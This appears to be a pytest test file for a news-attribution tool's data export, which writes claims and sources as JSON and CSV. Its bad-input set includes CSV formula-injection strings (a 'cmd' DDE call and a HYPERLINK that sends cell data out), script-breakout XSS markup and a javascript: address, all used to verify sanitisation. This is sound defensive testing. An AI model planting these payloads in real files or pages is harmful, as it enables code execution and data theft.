"""The open data, read back by programs that nobody here wrote; and `whosaid export`, which writes it."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
from collections import Counter
from collections.abc import Mapping
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import duckdb
import jsonschema
import msgspec
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from articles import article_of
from casefiles import all_cases
from sites import CONFIG, build, build_project, files_of, page, write_site
from tools import ROOT, exe, run
from whosaid.base.kinds import KINDS
from whosaid.check.findings import with_severity
from whosaid.check.running import check
from whosaid.exports import exports_of
from whosaid.exports.csvtext import csv_lines
from whosaid.exports.jsontext import json_of
from whosaid.exports.opendata import DataShape, StatementShape
from whosaid.exports.tables import CLAIM_COLUMNS
from whosaid.ledger.loading import load
from whosaid.ledger.records import Ledger
from whosaid.site.addresses import Site

GUIDE = ROOT / "docs/guide/data.md"

FAMILY = """\
---
title: The bridge
sources:
  walkers: {type: unnamed, described-as: two walkers, count: "2", reason: fear for their jobs,
    possibly-same-as: officials}
---

# The bridge

Walkers said [the bridge is unsafe](#unsafe).

/// claim | Not safe
    id: unsafe
    source: walkers, officials
    via: evening-post (implied)
    certainty: alleged, possible
    about: council
    same-as: other/later.md#shaky

See [the law](other/later.md). <!-- Q7 --> <?Q7?> It is `<b>` <!Q7>.

[//]: # (Q7)

[law]: https://example.org/law

It is [here][law].

///
"""
LATER = """\
# Later

The mayor said [the bridge is shaky](#shaky "claim by mayor via direct"). The council [denied it](#r-council).

/// denial
    id: r-council
    of: shaky
    source: council
    where: Harbour Radio
    date: 2031-05
    scope: general
///
"""
SMALL = {"a b#c.md": FAMILY, "other/later.md": LATER, "other/README.md": "# Other\n"}


def export(folder: Path, *args: str, env: Mapping[str, str] | None = None) -> CompletedProcess[str]:
    """Run `whosaid export` in a site's folder; its output is never a traceback."""
    done = run([exe("whosaid"), "export", *args], folder, {"PYTHONIOENCODING": "utf-8", **(env or {})})
    assert "Traceback" not in done.stdout + done.stderr
    return done


def exported(folder: Path, *args: str) -> Path:
    """The folder with a site's exported data."""
    done = export(folder, "out", *args)
    assert done.returncode == 0, done.stdout + done.stderr
    return folder / "out/data"


def claims(data: Path, file: str = "claims.json") -> Any:
    """A JSON file of the data."""
    return json.loads((data / file).read_text("utf-8"))


def statement(data: Path, ref: str) -> Any:
    """One statement of `claims.json`."""
    return next(one for one in claims(data)["statements"] if one["ref"] == ref)


def rows(data: Path, file: str = "claims.csv") -> list[dict[str, str]]:
    """A table, read as RFC 4180 has it, with the apostrophes taken off as the guide says."""
    with (data / file).open(encoding="utf-8", newline="") as stream:
        return [{key: as_meant(cell) for key, cell in row.items()} for row in csv.DictReader(stream, strict=True)]


def as_meant(cell: str) -> str:
    """A cell without the apostrophe that keeps spreadsheets from computing it, by the rule in the guide."""
    rule = re.search(
        r"remove one apostrophe from each cell that matches `(.*)`\.$", GUIDE.read_text("utf-8"), re.MULTILINE
    )
    assert rule is not None
    return cell[1:] if re.match(rule[1], cell) else cell


def validator(data: Path) -> jsonschema.Draft202012Validator:
    """What holds JSON against the published schema."""
    return jsonschema.Draft202012Validator(claims(data, "schema/claims.json"))


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project's own site, built."""
    return build_project(tmp_path_factory.mktemp("project"))


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small site that knows its address, with odd names and an answer on another page, built."""
    config = CONFIG.replace("site_name", "site_url: https://example.org/news\nsite_name")
    folder = write_site(tmp_path_factory.mktemp("small"), SMALL, config)
    done = build(folder)
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The exported data of a site without claims."""
    return exported(write_site(tmp_path_factory.mktemp("empty"), {}, sources=""))


# What others make of it.


def test_schema_and_files_are_valid(project: Path, small: Path, empty: Path) -> None:
    """The schema is one, and every JSON file keeps to it, as check-jsonschema has it."""
    folders = (project / "site/data", small / "site/data", empty)
    schema = folders[0] / "schema/claims.json"
    assert {(data / "schema/claims.json").read_bytes() for data in folders} == {schema.read_bytes()}
    jsonschema.Draft202012Validator.check_schema(claims(folders[0], "schema/claims.json"))
    run([exe("check-jsonschema"), "--check-metaschema", schema], check=True)
    files = [file for data in folders for file in (data / "claims.json", *_articles(data))]
    done = run([exe("check-jsonschema"), "--schemafile", schema, *files])
    assert done.returncode == 0, done.stdout


def _articles(data: Path) -> list[Path]:
    """The JSON of each article; annotations follow another standard."""
    return [file for file in data.glob("articles/**/*.json") if not file.name.endswith(".annotations.json")]


def test_every_file_names_its_schema(small: Path) -> None:
    """By a path that leads from the file to the schema."""
    data = small / "site/data"
    for file in (data / "claims.json", *_articles(data)):
        assert (file.parent / claims(data, str(file))["$schema"]).resolve() == (data / "schema/claims.json").resolve()


def test_the_shape_holds_all_there_is(project: Path, small: Path) -> None:
    """What is read into the shape and written again is the same: no key is beyond the schema."""
    for data in (project / "site/data", small / "site/data"):
        for file in (data / "claims.json", *_articles(data)):
            read = msgspec.json.decode(file.read_bytes(), type=DataShape)
            assert json.loads(msgspec.json.encode(read)) == json.loads(file.read_bytes())


def _counts(data: Path, column: str) -> dict[str, int]:
    table = str(data / "claims.csv")
    found = duckdb.execute(
        f'SELECT "{column}", count(*) FROM read_csv(?) WHERE "{column}" <> \'\' GROUP BY ALL', [table]
    )
    return {str(value): int(number) for value, number in found.fetchall()}


def _drawn(site: Path, address: str) -> list[dict[str, str]]:
    """What an article's page shows of each statement: kind, type, route and state."""
    shown = []
    for note in page(site, address).select("details.ann-card"):
        item = note.find_parent("li")
        assert item is not None
        names = item["class"]
        kind = next(name for name in note["class"] if name in KINDS)
        state = note.select_one(".ann-outcome")
        text = state.get_text() if state and kind in ("claim", "opinion") else ""
        shown.append(
            {
                "kind": kind,
                "type": next(name[2:] for name in names if name.startswith("t-")),
                "route": next(name[2:] for name in names if name.startswith("r-")),
                "state": text.removeprefix("Opinion").removeprefix(", "),
            }
        )
    return shown


@pytest.mark.parametrize("column", ["kind", "type", "route", "state"])
def test_counts_agree(project: Path, column: str) -> None:
    """DuckDB's counts of the table are those of the pages, of the JSON's totals, and of the JSON's statements."""
    data = project / "site/data"
    counted = _counts(data, column)
    whole = claims(data)
    drawn = [row for article in whole["articles"] for row in _drawn(project / "site", article["address"].rstrip("/"))]
    assert sum(counted.values()) > 0
    assert counted == Counter(row[column] for row in drawn if row[column])
    assert counted == {key: number for key, number in whole["totals"][f"by-{column}"].items() if number}
    values = (one["route"]["kind"] if column == "route" else one[column] for one in whole["statements"])
    assert counted == Counter(value for value in values if value)


def test_the_check_counts_the_same(project: Path) -> None:
    """As many statements as `whosaid check` has seen."""
    data = project / "site/data"
    done = run([exe("whosaid"), "check", "--format", "json"], project, {"PYTHONIOENCODING": "utf-8"})
    assert done.returncode == 0
    whole = claims(data)
    found = duckdb.execute("SELECT count(*) FROM read_csv(?)", [str(data / "claims.csv")]).fetchall()
    assert json.loads(done.stdout)["statements"] == found[0][0] == whole["totals"]["statements"]
    assert whole["totals"]["statements"] == len(whole["statements"])
    assert whole["totals"]["sources"] == len(whole["sources"]) == len(rows(data, "sources.csv"))
    assert whole["totals"]["articles"] == len(whole["articles"])


def test_the_table_counts_the_answers_it_leaves_out(tmp_path: Path) -> None:
    """As the JSON does: of many answers to the same claim, both have only the first."""
    answers = " ".join(f'[No {n}](#r-{n} "denial of x by council").' for n in range(25))
    same = "[It is unsafe](#y).\n\n/// claim\nid: y\nsource: mayor\nsame-as: a.md#x\n///\n"
    pages = {"a.md": f'[It is unsafe](#x "claim by mayor"). {answers}\n', "b.md": same}
    data = exported(write_site(tmp_path, pages))
    left_out = {row["ref"]: row["more-answers"] for row in rows(data)}
    assert left_out == {one["ref"]: str(one["more-answers"]) for one in claims(data)["statements"]}
    assert left_out["b.md#y"] == "5"


def test_the_articles_make_the_whole(project: Path, small: Path) -> None:
    """The JSON of each article has its statements as the whole has them, and all sources that they name."""
    for data in (project / "site/data", small / "site/data"):
        whole, parts = claims(data), []
        for article in whole["articles"]:
            part = claims(data, f"articles/{article['page'].removesuffix('.md')}.json")
            assert part["articles"] == [article]
            assert part["totals"]["statements"] == article["statements"] == len(part["statements"])
            listed = {(source["id"], source["declared-in"]) for source in part["sources"]}
            for one_ in part["statements"]:
                named = (*one_["sources"], *one_["route"]["through"], *one_["about"])
                assert {(source["id"], source["declared-in"]) for source in named} <= listed
            parts += part["statements"]
        assert parts == whole["statements"]


def test_sources_are_counted(project: Path) -> None:
    """How many statements a source stands behind and carried are those that name it."""
    whole = claims(project / "site/data")
    behind: Counter[tuple[str, str]] = Counter()
    carried: Counter[tuple[str, str]] = Counter()
    for one_ in whole["statements"]:
        behind.update((source["id"], source["declared-in"]) for source in one_["sources"])
        carried.update((outlet["id"], outlet["declared-in"]) for outlet in one_["route"]["through"])
    for source in whole["sources"]:
        key = source["id"], source["declared-in"]
        assert (source["statements"], source["carried"]) == (behind[key], carried[key])
    assert carried["nyt", ""] > 0


# What is in it.


def test_a_statement_has_all_that_its_note_has(small: Path) -> None:
    """Who, by what way, how sure, whom it accuses, what was answered, and the editor's note."""
    data = small / "site/data"
    unsafe = statement(data, "a b#c.md#unsafe")
    assert unsafe["address"] == "https://example.org/news/a%20b%23c/#unsafe"
    assert (unsafe["words"], unsafe["title"], unsafe["type"]) == ("the bridge is unsafe", "Not safe", "unnamed")
    assert unsafe["attribution"] == (
        "alleged, possible, according to The Evening Post, citing two walkers and two officials"
    )
    assert [(source["id"], source["declared-in"]) for source in unsafe["sources"]] == [
        ("walkers", "a b#c.md"),
        ("officials", ""),
    ]
    assert unsafe["sources"][0]["reason"] == "fear for their jobs"
    assert [(outlet["id"], outlet["implied"]) for outlet in unsafe["route"]["through"]] == [("evening-post", True)]
    assert unsafe["certainty"] == ["alleged", "possible"]
    assert [party["label"] for party in unsafe["about"]] == ["the town council"]
    assert unsafe["state"] == "Disputed"


def test_answers_go_with_all_that_says_the_same(small: Path) -> None:
    """The denial of one is the denial of the other, said to be so, with who, when, where and how far."""
    data = small / "site/data"
    shaky, unsafe = statement(data, "other/later.md#shaky"), statement(data, "a b#c.md#unsafe")
    assert shaky["family"] == unsafe["family"] == "a b#c.md#unsafe"
    (given,), (shared,) = shaky["answers"], unsafe["answers"]
    assert given["given-to-this"] is True
    assert shared == {**given, "given-to-this": False}
    assert given["ref"] == "other/later.md#r-council"
    assert [source["label"] for source in given["sources"]] == ["the town council"]
    assert (given["date"], given["where"], given["scope"]) == ("2031-05", "Harbour Radio", "general")
    assert statement(data, given["ref"])["of"] == ["other/later.md#shaky"]
    row = next(row for row in rows(data) if row["ref"] == "a b#c.md#unsafe")
    assert row["answers"] == shared["in-words"]
    assert row["answers"].startswith("Denied by the town council. Date: May 2031. Where: Harbour Radio.")
    assert row["state"] == "Disputed"


def test_a_headline_does_not_go_alone(small: Path) -> None:
    """With the title of an article there is who stands behind it and what was answered."""
    article = claims(small / "site/data")["articles"][0]
    assert article["title"] == "The bridge"
    assert "two walkers" in article["standing"]
    assert "Denied by the town council" in article["standing"]


def test_what_no_reader_sees_is_not_published(small: Path) -> None:
    """No comment, instruction or unused reference of a note; of an unnamed source no address."""
    data = small / "site/data"
    note = statement(data, "a b#c.md#unsafe")["note"]
    assert note.split() == (
        "See [the law](other/later.md). It is `<b>` . [law]: https://example.org/law It is [here][law].".split()
    )
    for file, content in files_of(data).items():
        assert b"Q7" not in content, file


def test_a_source_that_nobody_uses_is_there(small: Path) -> None:
    """In both files, with no statements."""
    data = small / "site/data"
    whole = claims(data)
    minutes = next(source for source in whole["sources"] if source["id"] == "minutes")
    assert (minutes["statements"], minutes["carried"], minutes["declared-in"]) == (0, 0, "")
    row = next(row for row in rows(data, "sources.csv") if row["id"] == "minutes")
    assert (row["label"], row["type"], row["statements"]) == ("the council's minutes", "document", "0")
    assert "minutes" not in [source["id"] for source in claims(data, "articles/other/later.json")["sources"]]


def test_a_site_without_claims_has_data(empty: Path) -> None:
    """Files with nothing in them, but whole: the heads of the tables, and totals of 0."""
    whole = claims(empty)
    assert (whole["statements"], whole["articles"], whole["totals"]["statements"]) == ([], [], 0)
    assert list(_counts(empty, "kind")) == []
    assert (empty / "claims.csv").read_text("utf-8").count("\n") == 1
    assert not (empty / "articles").exists()


# Bad input.

BAD = {
    "formula": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "line": "\n=1+1",
    "return": "\r=1+1",
    "wide": "＝1+1",
    "after-space": " =1+1",
    "after-apostrophe": "'=1+1",
    "apostrophe": "'Tis nothing",
    "quotes": 'a "b" ""c"" ""',
    "commas": "a, b; c,",
    "lines": "one\n\ntwo\r\nthree",
    "markup": "</script><script>alert(1)</script><!-- <b>&amp;",
    "separators": "a\u2028b\u2029c\u00a0d",
    "backslash": 'a\\"b\\',
    "hebrew": '‏העיתון "הארץ" אמר',
    "emoji": "👩‍🚒🏴󠁧󠁢󠁳󠁣󠁴󠁿 said so",
    "long": "long title, " * 850,
}


BAD_PAGE = """\
---
title: {text}
sources:
  own: {{type: unnamed, described-as: {text}}}
---

They said [it](#it "claim by {name}, own").
"""


@pytest.fixture(scope="module")
def bad(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The data of a site in which each bad text is a title, a name, a place and a description."""
    # Without what a site may not publish; comments in a title are a finding.
    texts = {name: text.replace("<!-- ", "<! ") for name, text in BAD.items()}
    sources = "".join(f"{name}: {{type: person, name: {_yaml(text)}}}\n" for name, text in texts.items())
    pages = {f"{name}.md": BAD_PAGE.format(name=name, text=_yaml(text)) for name, text in texts.items()}
    return exported(write_site(tmp_path_factory.mktemp("bad"), pages, sources=sources))


def _yaml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False).replace("\u2028", "\\L").replace("\u2029", "\\P")


@pytest.mark.parametrize("name", BAD)
def test_bad_texts_come_back_as_they_were(bad: Path, name: str) -> None:
    """Titles, names and descriptions are the same in JSON and in the tables."""
    text = BAD[name].replace("<!-- ", "<! ")
    whole = claims(bad)
    assert next(article["title"] for article in whole["articles"] if article["page"] == f"{name}.md") == text
    assert [source["label"] for source in statement(bad, f"{name}.md#it")["sources"]] == [text, text]
    source = next(row for row in rows(bad, "sources.csv") if row["id"] == name)
    assert source["label"] == text
    row = next(row for row in rows(bad) if row["page"] == f"{name}.md")
    assert row["sources"] == f"{text}; {text}"


def test_bad_texts_are_read_by_duckdb(bad: Path) -> None:
    """All of them are where they belong, with nothing said about the file."""
    found = duckdb.execute("SELECT id, label FROM read_csv(?, all_varchar=true)", [str(bad / "sources.csv")]).fetchall()
    labels = dict(found)
    for name, text in BAD.items():
        assert as_meant(labels[name]) == text.replace("<!-- ", "<! "), name


def test_no_cell_is_a_formula(bad: Path, project: Path) -> None:
    """Nothing that OWASP names starts a cell, in any table."""
    for file in (*bad.glob("*.csv"), *(project / "site/data").glob("*.csv")):
        with file.open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                assert not [cell for cell in row if re.match(r"\s*[=+\-@\t\r\n\0＝＋－＠]", cell)]


def test_json_can_stand_in_a_page(bad: Path) -> None:
    """No text ends the script element around it, or starts something like a comment."""
    text = (bad / "claims.json").read_text("utf-8")
    assert not set("<>&\u2028\u2029") & set(text)
    inside = BeautifulSoup(f"<script type=application/json>{text}</script>", "html.parser").script
    assert inside is not None
    assert json.loads(inside.get_text()) == json.loads(text)


def test_bad_texts_keep_to_the_schema(bad: Path) -> None:
    """None of them makes the file another one."""
    validator(bad).validate(claims(bad))


_TEXTS = st.text(st.characters(exclude_categories=["Cs"]))
_TRICKY = st.text(st.sampled_from("'\" =+-@\t\r\n,;a<&＝\u2028"), max_size=8)


@given(st.lists(st.lists(_TEXTS | _TRICKY, min_size=2, max_size=2), max_size=4))
def test_any_text_comes_back(table: list[list[str]]) -> None:
    """From the table and from the JSON alike; and no cell of the table can be computed."""
    written = "".join(csv_lines(table))
    read = list(csv.reader(io.StringIO(written, newline=""), strict=True))
    assert [[as_meant(cell) for cell in row] for row in read] == table
    assert not [cell for row in read for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))]
    assert json.loads(json_of(table)) == table
    assert not set("<>&\u2028\u2029") & set(json_of(table))


def test_no_case_makes_an_export_fail(tmp_path: Path, empty: Path) -> None:
    """A preview has data for any text of an author; if the check finds no error, it conforms to the schema."""
    held = validator(empty)
    clean = 0
    for case in all_cases():
        case.write(tmp_path / case.name)
        ledger, _ = load(tmp_path / case.name / "docs")
        texts = {export_.path: "".join(export_.pieces()) for export_ in exports_of(ledger, Site())}
        whole = json.loads(texts["data/claims.json"])
        if whole["statements"] and not with_severity(check(ledger), "error"):
            clean += 1
            held.validate(whole)
    assert clean > 100


# Size and sameness.


def _peak(ledger: Ledger, path: str) -> int:
    wanted = next(export_ for export_ in exports_of(ledger, Site()) if export_.path == path)
    for _ in wanted.pieces():  # what the ledger remembers of itself, and what Python loads, is not of the writing
        pass
    tracemalloc.start()
    for _ in range(3):  # what is kept of the latest statements is bounded, but its table is made anew now and then
        assert sum(len(piece) for piece in wanted.pieces()) > 100_000
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


@pytest.mark.parametrize("path", ["data/claims.json", "data/claims.csv"])
def test_memory_does_not_grow_with_the_site(tmp_path: Path, path: str) -> None:
    """Twice the statements are written in the same memory: either site has more than are remembered at a time."""
    peaks = []
    for size in (20, 40):
        folder = write_site(tmp_path / str(size), {f"{n}.md": article_of(60) for n in range(size)})
        peaks.append(_peak(load(folder / "docs")[0], path))
    assert peaks[1] < 1.1 * peaks[0]


def test_a_build_publishes_what_export_writes(project: Path, small: Path) -> None:
    """The same files with the same bytes, whether or not the site knows its address."""
    for folder, args in (
        (project, ("--name", "Whosaid")),
        (small, ("--name", "Test", "--address", "https://example.org/news")),
    ):
        written = files_of(exported(folder, *args).parent)
        published = files_of(folder / "site")
        assert written
        assert written == {path: published[path] for path in written}
        data = {path for path in published if path.startswith(("data/", "embed/", "feed/"))}
        assert {path for path in data if not path.endswith(".annotations.json")} <= written.keys()


def test_every_run_writes_the_same_bytes(small: Path) -> None:
    """For any order of Python's sets, and for a second build."""
    before = files_of(small / "site/data")
    for seed in ("1", "2"):
        assert build(small, "-d", f"seed-{seed}", env={"PYTHONHASHSEED": seed}).returncode == 0
        assert files_of(small / f"seed-{seed}/data") == before


def test_the_sitemap_has_one_order(tmp_path: Path) -> None:
    """For any order of Python's sets, also with claims in folders."""
    config = CONFIG.replace("site_name", "site_url: https://example.org/\nsite_name")
    site = write_site(tmp_path, dict.fromkeys(("a.md", "in/b.md", "in/two/c.md"), LATER), config)
    sitemaps = set()
    for seed in ("1", "2", "3"):
        assert build(site, env={"PYTHONHASHSEED": seed, "SOURCE_DATE_EPOCH": "0"}).returncode == 0
        sitemaps.add((site / "site/sitemap.xml").read_bytes())
    assert len(sitemaps) == 1


def test_files_of_the_author_come_first(tmp_path: Path) -> None:
    """A file of the same name in the docs folder is published unchanged."""
    folder = write_site(tmp_path, {"a.md": LATER, "data/claims.json": "{}"})
    assert build(folder).returncode == 0
    assert (folder / "site/data/claims.json").read_text("utf-8") == "{}"
    assert (folder / "site/data/claims.csv").is_file()


def test_a_file_in_the_way_is_told(tmp_path: Path) -> None:
    """A file called like the folder of the data stops a build with a sentence."""
    folder = write_site(tmp_path, {"a.md": LATER, "data": "mine"})
    done = build(folder)
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "“docs/data” is in the way of “data/claims.json”" in done.stderr


# The command.


def test_export_says_what_it_has_written(tmp_path: Path) -> None:
    """One line; files that were there stay, and older ones of the same names are replaced."""
    folder = write_site(tmp_path, {"a.md": LATER})
    (folder / "out/data").mkdir(parents=True)
    (folder / "out/data/mine.txt").write_text("mine", "utf-8")
    (folder / "out/data/claims.csv").write_text("old " * 9999, "utf-8")
    done = export(folder, "out")
    files = len(files_of(folder / "out")) - 1
    assert (done.returncode, done.stdout, done.stderr) == (
        0,
        "",
        f"Pages are left out according to “{folder / 'mkdocs.yml'}”.\n"
        f"{files} files with 2 statements written to out.\n",
    )
    assert (folder / "out/data/mine.txt").read_text("utf-8") == "mine"
    assert "old" not in (folder / "out/data/claims.csv").read_text("utf-8")


def test_export_says_where_it_looked_for_settings(tmp_path: Path) -> None:
    """Without mkdocs.yml, only the pages named are left out, and the log says so."""
    folder = write_site(tmp_path, {"a.md": LATER})
    (folder / "mkdocs.yml").rename(tmp_path / "settings.yml")
    said = export(folder, "out").stderr.splitlines()[0]
    assert said == f"Pages are left out by name only: there is no mkdocs.yml in “{tmp_path}” and the folders above it."


def test_tables_can_begin_with_a_byte_order_mark(tmp_path: Path) -> None:
    """On request: Excel takes a table without it for another encoding. The text behind it is the same."""
    folder = write_site(tmp_path, {"a.md": LATER})
    assert export(folder, "plain").returncode == export(folder, "out", "--bom").returncode == 0
    plain, marked = files_of(folder / "plain"), files_of(folder / "out")
    tables = {path for path in plain if path.endswith(".csv")}
    assert tables >= {"data/claims.csv", "data/sources.csv"}
    assert {path for path in marked if marked[path] != plain[path]} == tables
    assert marked["data/claims.csv"] == b"\xef\xbb\xbf" + plain["data/claims.csv"]


def test_an_article_lists_the_sources_of_answers_on_other_pages(tmp_path: Path) -> None:
    """Also one that the other page alone declares: its id and its page name it in both files."""
    answer = """\
---
sources:
  clerk: {type: unnamed, described-as: a clerk, reason: not-stated}
---
A clerk says [no](#no "denial of a.md#so by clerk").
"""
    folder = write_site(tmp_path, {"a.md": 'It is [so](#so "claim by council").\n', "b.md": answer})
    assert export(folder, "out").returncode == 0
    data = json.loads((folder / "out/data/articles/a.json").read_text("utf-8"))
    listed = {(source["id"], source["declared-in"]) for source in data["sources"]}
    (statement,) = data["statements"]
    named = {(source["id"], source["declared-in"]) for one in statement["answers"] for source in one["sources"]}
    assert named == {("clerk", "b.md")} <= listed


def test_export_refuses_what_the_check_refuses(tmp_path: Path) -> None:
    """The findings as the check prints them, 1, and no file."""
    folder = write_site(tmp_path, {"a.md": '[The bridge is unsafe](#x "claim by counci").\n'})
    checked = run([exe("whosaid"), "check"], folder, {"PYTHONIOENCODING": "utf-8"})
    done = export(folder, "out")
    assert (done.returncode, done.stdout) == (1, checked.stdout)
    assert "did you mean “council”?" in done.stdout
    assert done.stderr == "1 error in 1 file. Nothing is written until the errors are fixed.\n"
    assert not (folder / "out").exists()


@pytest.mark.parametrize(
    ("args", "says"),
    [
        ([], "DIR"),
        (["out", "--docs", "nowhere"], "there is no folder “nowhere”"),
        (["out", "--docs", "mkdocs.yml"], "mkdocs.yml"),
        (["mkdocs.yml"], "is a file"),
        (["mkdocs.yml/out"], "cannot write “mkdocs.yml/out/data”"),
        (["taken"], "cannot write “taken/data/claims.json”: Is a directory"),
        (["docs"], "choose a folder outside it"),
        (["docs/x/../out"], "choose a folder outside it"),
        (["/proc/whosaid"], "cannot write “/proc/whosaid"),
        (["x" * 300], "File name too long"),
        (["loop"], "loop"),
        (["out", "--address", "example.org"], "is not a site"),
        (["out", "--address", "javascript:alert(1)"], "is not a site"),
        (["out", "--address", "https://"], "is not a site"),
        (["out", "--address", "https://[x/"], "is not a site"),
        (["out", "--address", "http://["], "is not a site"),
        (["out", "--address", "https://a b"], "is not a site"),
        (["out", "--address", "https://a..b"], "is not a site"),
        (["out", "--address", "https://a:b@c"], "is not a site"),
        (["out", "--address", "https://a\u2100b"], "is not a site"),
        (["out", "--address", "https://example.org/?a=b"], "is not a site"),
        (["out", "--address", "https://example.org/#a"], "is not a site"),
        (["out", "--leave-out", "!"], "“--leave-out” has an invalid pattern"),
        (["out", "--adress", "x"], "--adress"),
    ],
    ids=lambda value: "_".join(value)[:40] if isinstance(value, list) else "",
)
def test_unusable_arguments_end_with_2(tmp_path: Path, args: list[str], says: str) -> None:
    """An invalid folder or address: 2, and a sentence that says which."""
    folder = write_site(tmp_path, {"a.md": LATER})
    (folder / "taken/data/claims.json").mkdir(parents=True)
    (folder / "loop").symlink_to("loop")
    done = export(folder, *args)
    assert (done.returncode, done.stdout) == (2, "")
    assert says in done.stderr
    assert not (folder / "out").exists()
    assert sorted(files_of(folder / "docs")) == ["a.md", "index.md", "sources.yml", "whosaid.yml"]


@pytest.mark.parametrize(
    ("address", "root"),
    [
        ("https://example.org", "https://example.org/"),
        ("https://example.org/", "https://example.org/"),
        ("HTTPS://example.org", "https://example.org/"),
        ("http://localhost:8000/a/b", "http://localhost:8000/a/b/"),
        ("https://bücher.example", "https://bücher.example/"),
    ],
)
def test_addresses_are_complete_if_the_site_is_known(tmp_path: Path, address: str, root: str) -> None:
    """With a slash at the end or without."""
    whole = claims(exported(write_site(tmp_path, {"a.md": LATER}), "--address", address))
    assert whole["root"] == root
    assert whole["statements"][0]["address"] == f"{root}a/#shaky"
    assert whole["articles"][0]["data"] == f"{root}data/articles/a.json"


DRAFT = """\
---
title: Q7
sources:
  aide: {type: unnamed, described-as: a Q7}
---

They say [the Q7 lied](#lied "claim by aide").
"""
KEPT_BACK: dict[str, tuple[str, str, list[str]]] = {
    "a folder of drafts": ("drafts/d.md", "draft_docs: /drafts/", []),
    "a page left out": ("a/d.md", "exclude_docs: |\n  /sources.yml\n  d.md", []),
    "a page left out by name": ("a/d.md", "", ["--leave-out", "/x/", "--leave-out", "/a/"]),
    "both": ("d.md", "draft_docs: /drafts/", ["--leave-out", "d.md"]),
    "all but one": ("drafts/d.md", "draft_docs: |\n  /drafts/*\n  !/drafts/e.md", []),
    "from elsewhere, and named": ("d.md", "INHERIT: base.yml", ["--leave-out", "d.md"]),
    "beside what comes from elsewhere": ("d.md", "INHERIT: base.yml\ndraft_docs: d.md", ["--leave-out", "/x/"]),
    "beside what cannot be known": ("d.md", "draft_docs: !ENV X\nexclude_docs: d.md", ["--leave-out", "/x/"]),
    "two patterns in one": ("d.md", "", ["--leave-out", "/x/\nd.md"]),
    "in the usual folder, not named": ("d.md", "docs_dir:\ndraft_docs: d.md", []),
    "a README beside an index": ("README.md", "", []),
}


@pytest.mark.parametrize("name", KEPT_BACK)
def test_nothing_is_exported_of_a_page_that_is_not_published(tmp_path: Path, name: str) -> None:
    """Not its words, its title or its sources; the last line says that it was left out."""
    path, config, args = KEPT_BACK[name]
    head = CONFIG.partition("exclude_docs")[0]
    site = write_site(tmp_path, {"a.md": LATER, path: DRAFT}, f"{head}{config}\n")
    done = export(site, "out", *args)
    assert done.returncode == 0, done.stderr
    assert done.stderr.endswith("with 2 statements written to out; 1 page left out.\n")
    for file, content in files_of(site / "out").items():
        assert b"Q7" not in content, file


@pytest.mark.parametrize("name", [name for name in KEPT_BACK if not KEPT_BACK[name][2]])
def test_a_build_keeps_the_same_pages_back(tmp_path: Path, name: str) -> None:
    """What is exported is what a build publishes."""
    path, config, _ = KEPT_BACK[name]
    config = f"{CONFIG.partition('exclude_docs')[0]}{config}\n{CONFIG.partition('whosaid.yml')[2]}"
    site = write_site(tmp_path, {"a.md": LATER, path: DRAFT}, config)
    assert build(site).returncode == 0
    assert export(site, "out", "--name", "Test").returncode == 0
    written, published = files_of(site / "out"), files_of(site / "site")
    assert written == {path: published[path] for path in written}


NOT_KNOWN = {
    "INHERIT: base.yml": "takes settings from another place",
    "draft_docs: !ENV DRAFTS": "“draft_docs” in ",
    "draft_docs: [/drafts/]": "“draft_docs” in ",
    "draft_docs: '!'": "has an invalid pattern",
    "draft_docs: 'a": "cannot be read",
}


@pytest.mark.parametrize("config", NOT_KNOWN)
def test_a_draft_does_not_get_out_by_a_guess(tmp_path: Path, config: str) -> None:
    """Where mkdocs.yml does not say which pages are published, nothing is written until somebody does."""
    site = write_site(tmp_path, {"a.md": LATER}, f"site_name: Test\n{config}\n")
    done = export(site, "out")
    assert (done.returncode, done.stdout) == (2, "")
    assert NOT_KNOWN[config] in done.stderr
    assert "--leave-out" in done.stderr
    assert not (site / "out").exists()
    assert export(site, "out", "--leave-out", "").returncode == 0


def test_the_settings_of_another_site_leave_nothing_out(tmp_path: Path) -> None:
    """A mkdocs.yml counts if its docs folder is the one that is exported."""
    site = write_site(tmp_path / "part", {"a.md": LATER}, "docs_dir: elsewhere\ndraft_docs: a.md\n")
    assert statement(exported(site), "a.md#shaky")["kind"] == "claim"
    (tmp_path / "mkdocs.yml").write_text("docs_dir: part/docs\ndraft_docs: a.md\n", "utf-8")
    assert claims(exported(site))["statements"] == []


# The guide.


def test_the_guide_names_every_field() -> None:
    """The guide to the data lists each field of a statement and each column."""
    text = GUIDE.read_text("utf-8")
    for name in (*StatementShape.__struct_encode_fields__, *CLAIM_COLUMNS):
        assert f"`{name}`" in text, name
